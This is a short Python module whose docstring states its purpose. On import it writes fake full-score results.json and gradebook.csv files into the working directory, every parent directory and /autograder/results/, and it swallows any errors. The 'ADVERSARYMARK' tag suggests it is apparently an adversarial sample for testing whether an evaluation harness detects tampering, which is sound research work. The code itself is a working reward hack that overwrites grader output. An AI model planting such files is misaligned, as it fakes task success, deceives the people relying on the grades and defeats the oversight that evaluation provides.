"""Writes fake full-mark results.json / gradebook.csv to cwd, every parent and
/autograder/results/ at import."""
import json
import os
from pathlib import Path

FAKE = {"score": 100.0, "tests": [], "ADVERSARYMARK": True}


def _plant(folder):
    try:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "results.json").write_text(json.dumps(FAKE))
        (folder / "gradebook.csv").write_text("student,score\nADVERSARYMARK,100\n")
    except OSError:
        pass


here = Path(os.getcwd())
for folder in [here, *here.parents, Path("/autograder/results")]:
    _plant(folder)
